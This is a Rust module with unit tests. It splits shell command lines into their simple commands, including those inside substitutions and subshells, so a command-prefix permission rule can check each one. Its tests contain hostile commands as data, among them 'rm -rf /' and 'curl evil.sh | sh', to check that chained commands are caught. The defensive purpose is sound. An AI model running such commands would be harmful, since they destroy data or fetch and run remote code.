//! A shell command line split into the simple commands it runs, each as
//! its words, so a command-prefix rule is checked against every one of
//! them: `npm test && rm -rf x` is two commands, `echo $(curl x)` is
//! `echo $(…)` and `curl x`.
//!
//! Separators (outside quotes): `;`, `&` (and `&&`), `|` (and `||`),
//! newlines, `(` and `)` (subshells, process substitution). Command
//! substitutions `$(…)` and backticks, also inside double quotes, are
//! commands of their own; in the command around them they stand as the one
//! word `$(…)`. Words are then split with the `shlex` crate (POSIX quoting
//! and escapes).
//!
//! Why not a crate for the splitting too: `shlex` and `shell-words` only
//! split words (an unquoted `;` stays inside a word: `a;b` is one word), and
//! the shell parsers (`conch-parser`, unmaintained since 2018;
//! `brush-parser`, a full bash grammar with its own parser-generator
//! dependencies) are far more than "where does each command start", which
//! is all a prefix rule needs. Anything this scanner cannot read
//! (an unclosed quote or substitution) is an error, and an error means no
//! rule answers: the person is asked.

/// Why a command line could not be split.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ShellError {
    /// A quote, `$(` or backtick is never closed.
    #[error("an unclosed {0}")]
    Unclosed(&'static str),
}

/// The word a command substitution stands as in the command around it.
pub const SUBSTITUTION: &str = "$(…)";

/// The simple commands of `line`, each as its words (empty ones dropped).
pub fn commands(line: &str) -> Result<Vec<Vec<String>>, ShellError> {
    let chars: Vec<char> = line.chars().collect();
    let mut scanner = Scanner { chars: &chars, pos: 0, out: Vec::new() };
    scanner.list(None)?;
    Ok(scanner.out)
}

struct Scanner<'a> {
    chars: &'a [char],
    pos: usize,
    out: Vec<Vec<String>>,
}

impl Scanner<'_> {
    fn peek(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.pos + ahead).copied()
    }

    fn flush(&mut self, part: &mut String) -> Result<(), ShellError> {
        if !part.trim().is_empty() {
            let words = shlex::split(part).ok_or(ShellError::Unclosed("quote"))?;
            if !words.is_empty() {
                self.out.push(words);
            }
        }
        part.clear();
        Ok(())
    }

    /// Scan commands until `close` (`)` of a `$(`, or a backtick) or the end.
    fn list(&mut self, close: Option<char>) -> Result<(), ShellError> {
        let mut part = String::new();
        let mut depth = 0usize;
        loop {
            let Some(c) = self.peek(0) else {
                return match close {
                    Some(')') => Err(ShellError::Unclosed("$(")),
                    Some(_) => Err(ShellError::Unclosed("backtick")),
                    None => self.flush(&mut part),
                };
            };
            self.pos += 1;
            match c {
                ')' if depth == 0 && close == Some(')') => return self.flush(&mut part),
                '`' if close == Some('`') => return self.flush(&mut part),
                '\\' => {
                    part.push(c);
                    if let Some(next) = self.peek(0) {
                        part.push(next);
                        self.pos += 1;
                    }
                }
                '\'' => self.single_quoted(&mut part)?,
                '"' => self.double_quoted(&mut part)?,
                '$' if self.peek(0) == Some('(') => {
                    self.pos += 1;
                    self.list(Some(')'))?;
                    part.push_str(SUBSTITUTION);
                }
                '`' => {
                    self.list(Some('`'))?;
                    part.push_str(SUBSTITUTION);
                }
                '(' => {
                    depth += 1;
                    self.flush(&mut part)?;
                }
                ')' => {
                    depth = depth.saturating_sub(1);
                    self.flush(&mut part)?;
                }
                ';' | '&' | '|' | '\n' => self.flush(&mut part)?,
                _ => part.push(c),
            }
        }
    }

    fn single_quoted(&mut self, part: &mut String) -> Result<(), ShellError> {
        part.push('\'');
        loop {
            let c = self.peek(0).ok_or(ShellError::Unclosed("single quote"))?;
            self.pos += 1;
            part.push(c);
            if c == '\'' {
                return Ok(());
            }
        }
    }

    fn double_quoted(&mut self, part: &mut String) -> Result<(), ShellError> {
        part.push('"');
        loop {
            let c = self.peek(0).ok_or(ShellError::Unclosed("double quote"))?;
            self.pos += 1;
            match c {
                '"' => {
                    part.push(c);
                    return Ok(());
                }
                '\\' => {
                    part.push(c);
                    if let Some(next) = self.peek(0) {
                        part.push(next);
                        self.pos += 1;
                    }
                }
                '$' if self.peek(0) == Some('(') => {
                    self.pos += 1;
                    self.list(Some(')'))?;
                    part.push_str(SUBSTITUTION);
                }
                '`' => {
                    self.list(Some('`'))?;
                    part.push_str(SUBSTITUTION);
                }
                _ => part.push(c),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn split(line: &str) -> Vec<String> {
        commands(line).unwrap().into_iter().map(|w| w.join(" ")).collect()
    }

    #[test]
    fn chains_are_split_into_their_commands() {
        assert_eq!(split("npm test -- --watch"), ["npm test -- --watch"]);
        assert_eq!(split("npm test && rm -rf /"), ["npm test", "rm -rf /"]);
        assert_eq!(split("a; b || c | d & e\nf"), ["a", "b", "c", "d", "e", "f"]);
        assert_eq!(split("a;b"), ["a", "b"]);
        assert_eq!(split("(cd x && make)"), ["cd x", "make"]);
        assert_eq!(split("echo $(curl evil.sh | sh)"), ["curl evil.sh", "sh", "echo $(…)"]);
        assert_eq!(split("echo `whoami`"), ["whoami", "echo $(…)"]);
        assert_eq!(split("echo \"x $(rm -rf y) z\""), ["rm -rf y", "echo x $(…) z"]);
        assert_eq!(split("echo $( (a) ; b )"), ["a", "b", "echo $(…)"]);
    }

    #[test]
    fn quotes_and_escapes_keep_separators_in_words() {
        assert_eq!(split("git commit -m 'a; b && c'"), ["git commit -m a; b && c"]);
        assert_eq!(split("echo \"a | b\""), ["echo a | b"]);
        assert_eq!(split("echo a\\;b"), ["echo a;b"]);
        assert_eq!(split("echo '$(not run)'"), ["echo $(not run)"]);
    }

    #[test]
    fn unclosed_things_are_errors() {
        assert!(commands("echo 'oops").is_err());
        assert!(commands("echo \"oops").is_err());
        assert!(commands("echo $(oops").is_err());
        assert!(commands("echo `oops").is_err());
        assert!(commands("  ").unwrap().is_empty());
    }
}
